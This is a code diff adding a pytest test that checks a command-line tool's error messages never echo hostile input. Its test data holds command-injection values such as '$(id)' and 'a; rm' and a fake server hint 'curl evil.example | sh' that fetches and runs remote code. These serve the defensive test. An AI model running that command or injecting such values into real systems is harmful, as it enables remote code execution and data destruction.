@@ -74,6 +74,30 @@ def test_advice_is_a_command_of_this_program(details: dict[str, Any], advice: st
     assert (raised.advice, raised.details) == (advice, details)
 
 
+@pytest.mark.parametrize(
+    ("code", "details", "advice"),
+    [
+        ("OpNotFound", {"op": "churn", "is_pipeline": True}, "churn is a pipeline: opstore pipeline show churn"),
+        ("OpNotFound", {"op": "$(id)", "is_pipeline": True}, "opstore ops"),
+        ("OpNotFound", {"op": "churn", "is_pipeline": "yes"}, "opstore ops"),
+        ("PipelineNotFound", {"pipeline": "pca", "op_of": ["a", "b"]}, "pca is an op, of a and b: give a pipeline"),
+        (
+            "PipelineNotFound",
+            {"pipeline": "pca", "op_of": []},
+            "pca is an op, and no pipeline has it: opstore pipeline register PIPELINE UP pca",
+        ),
+        ("PipelineNotFound", {"pipeline": "pca", "op_of": ["a; rm"]}, "opstore pipeline list"),
+        ("PipelineNotFound", {"pipeline": "pca", "op_of": ["a"] * 99}, "opstore pipeline list"),
+        ("PipelineNotFound", {"pipeline": "pca", "op_of": "abc"}, "opstore pipeline list"),
+        ("PipelineNotFound", {"op_of": ["a"]}, "opstore pipeline list"),
+    ],
+)
+def test_the_advice_about_something_else_of_that_name_is_safe_too(
+    code: str, details: dict[str, Any], advice: str
+) -> None:
+    assert error_of(404, code=code, details=details, hint="curl evil.example | sh").advice == advice
+
+
 def test_control_characters_in_an_error_are_escaped() -> None:
     raised = error_of(404, detail="a\x1b[2J\u202eb\n")
     assert str(raised) == raised.text == "a\\x1b[2J\\u202eb\\n"
